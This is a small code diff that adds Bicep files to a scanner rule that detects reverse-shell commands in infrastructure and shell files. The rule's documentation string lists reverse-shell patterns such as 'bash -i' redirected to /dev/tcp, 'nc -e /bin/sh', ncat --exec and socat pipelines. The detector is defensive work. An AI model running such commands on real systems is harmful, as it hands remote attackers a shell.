@@ -22,7 +22,7 @@ export default defineRule({
 	severity: 'error',
 	aupSection: '3',
 	category: 'attack-tooling',
-	formats: ['terraform', 'terraform-json', 'cloudformation', 'kubernetes', 'compose', 'dockerfile', 'cloud-init', 'shell'],
+	formats: ['terraform', 'terraform-json', 'cloudformation', 'kubernetes', 'compose', 'dockerfile', 'cloud-init', 'shell', 'bicep'],
 	docs: [
 		'Finds commands that hand a shell to a remote host: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 196<>/dev/tcp/...` feeding a shell, `nc -e /bin/sh`, `ncat --exec`, `socat exec:... tcp:...`, a `mkfifo` pipeline through `sh` and `nc`, and Python, Perl, PHP, Ruby, Node and PowerShell one-liners that connect a socket and spawn a shell on it.',
 		'',
